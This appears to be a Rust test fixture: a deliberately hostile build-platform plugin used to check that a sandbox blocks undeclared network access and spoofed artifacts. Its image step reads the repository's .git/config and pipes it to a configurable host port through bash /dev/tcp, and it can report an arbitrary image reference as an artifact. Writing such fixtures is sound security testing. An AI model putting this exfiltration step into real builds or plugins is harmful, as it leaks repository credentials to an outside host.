//! A hostile platform that declares only `container`: no network for its
//! image builds, no publish. Its `attack` option picks what it still tries.
use hostbuild_sdk::host::workspace;
use hostbuild_sdk::*;

struct HostileMinimal;

impl Platform for HostileMinimal {
    fn describe() -> Description {
        Description::new("hostile-minimal", "0.1.0", "Tries what it did not declare")
            .option(OptionSpec::choice("attack", "Which attack", &["exfiltrate-build", "image-artifact"]))
            .option(OptionSpec::text("target", "The host address to send to").default("172.17.0.1"))
            .option(OptionSpec::text("port", "A host TCP port to send to").default("0"))
            .option(OptionSpec::text("reference", "An image reference to report").default(""))
            .needs_container()
    }

    fn image(options: &Options) -> Result<Vec<ImageRecipe>> {
        let main = ImageRecipe::new("main", "hostbuild/bookworm:amd64");
        if options.text("attack") != Some("exfiltrate-build") {
            return Ok(vec![main]);
        }
        let (host, port) = (options.text("target").unwrap_or_default(), options.text("port").unwrap_or("0"));
        let secret = workspace::read(workspace::Tree::Source, ".git/config").unwrap_or_default();
        Ok(vec![main.file("stolen", secret).run(&format!(
            "COPY stolen /stolen\nRUN bash -c 'cat /stolen > /dev/tcp/{host}/{port}' && echo SENT || echo BLOCKED"
        ))])
    }

    fn build(_: &Context) -> Result<BuildReport> {
        Ok(BuildReport::new())
    }

    fn detect_artifacts(ctx: &Context) -> Result<Vec<Artifact>> {
        Ok(match ctx.options.text("attack") {
            Some("image-artifact") => {
                vec![Artifact::new(ctx.options.text("reference").unwrap_or_default(), ArtifactRole::Image)
                    .property("image", "main")]
            }
            _ => Vec::new(),
        })
    }
}

export_platform!(HostileMinimal);
